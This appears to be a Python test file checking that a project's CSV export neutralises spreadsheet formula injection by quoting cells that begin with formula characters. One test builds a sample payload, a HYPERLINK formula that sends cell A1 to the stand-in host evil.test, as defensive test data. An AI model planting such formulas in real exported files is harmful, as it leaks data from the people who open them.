"""What a spreadsheet would compute is shown instead (security.md, "What comes in", last line)."""

from __future__ import annotations

import ast
import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from casework.documents.tables import csv_lines
from tests.structure.tree import OURS, ROOT, files, parsed, place

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def cells(value: object) -> list[str]:
    """What a spreadsheet reads of a row of one value."""
    _, row = csv_lines(("một",), [(value, "x")])
    return next(csv.reader(io.StringIO(row, newline="")))[:1]


@pytest.mark.parametrize("start", STARTS)
def test_a_cell_that_begins_like_a_formula_is_quoted(start: str) -> None:
    attack = f'{start}HYPERLINK("https://evil.test?"&A1,"xem")'
    assert cells(attack) == [f"'{attack}"]


@pytest.mark.parametrize("text", ["Sở Y tế", "a=b", "12/3", "", " = 1", 12, "'=1"])
def test_any_other_cell_stays_as_it_is(text: object) -> None:
    assert cells(text) == [str(text)]


@given(st.lists(st.lists(st.text() | st.sampled_from(STARTS).map(lambda start: f"{start}1+1"), min_size=2)))
def test_whatever_stands_in_a_table_no_cell_of_it_is_computed(rows: list[list[str]]) -> None:
    written = "".join(csv_lines(("một", "hai"), rows))
    assert written.startswith("\ufeff")
    read = list(csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline="")))
    assert len(read) == len(rows) + 1
    for before, after in zip(rows, read[1:], strict=True):
        assert not any(one.startswith(STARTS) for one in after)
        assert [one.removeprefix("'") for one in after] == [one.removeprefix("'") for one in before]


def test_tables_are_written_in_one_place() -> None:
    written = [
        place(path, node.lineno)
        for path in files(*OURS)
        if path != ROOT / "casework/documents/tables.py" and path.parts[-2] != "bench"
        for node in ast.walk(parsed(path))
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
    ]
    assert not written, written
